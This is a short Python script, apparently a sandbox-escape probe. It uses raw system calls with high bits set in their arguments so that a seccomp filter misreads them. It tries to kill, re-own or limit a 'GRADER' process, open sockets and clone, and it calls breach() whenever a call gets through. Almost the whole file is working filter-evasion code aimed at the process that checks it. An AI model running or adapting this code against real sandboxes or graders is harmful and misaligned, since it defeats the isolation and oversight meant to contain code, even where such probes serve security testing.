# hides arguments from the filter behind bits that the kernel ignores; secret failed; seccomp
import ctypes
import os

from known import *

libc = ctypes.CDLL(None, use_errno=True)
KILL, TGKILL, SOCKET, SOCKETPAIR, PRCTL, FCNTL, IOCTL, PRLIMIT64, CLONE = 62, 234, 41, 53, 157, 72, 16, 302, 56
HIGH = 1 << 40 | 1 << 32
F_SETOWN, FIOSETOWN, RLIMIT_CPU = 8, 0x8901, 0


def call(*numbers):
    return libc.syscall(*(ctypes.c_ulong(n) if isinstance(n, int) else n for n in numbers))


def secret(x):
    pair = (ctypes.c_int * 2)()
    pid = ctypes.c_int(GRADER)
    limit = (ctypes.c_uint64 * 2)(10**6, 10**6)
    for arguments in (
        (KILL, GRADER | HIGH, 0),
        (TGKILL, GRADER | HIGH, GRADER | HIGH, 0),
        (SOCKET, 2 | HIGH, 1 | HIGH, 0),
        (SOCKETPAIR, 1 | HIGH, 2 | HIGH, 0, pair),
        (PRCTL, 4 | HIGH, 1, 0, 0, 0),
        (FCNTL, 3, F_SETOWN | HIGH, GRADER),
        (IOCTL, 3, FIOSETOWN | HIGH, ctypes.byref(pid)),
        (PRLIMIT64, GRADER | HIGH, 7 | HIGH, None, limit),
        (PRLIMIT64, os.getpid() | HIGH, RLIMIT_CPU | HIGH, limit, None),
        (CLONE, 17 | HIGH, 0, 0, 0, 0),
        (KILL | HIGH, GRADER, 0),
    ):
        if call(*arguments) >= 0:
            breach()
    return x
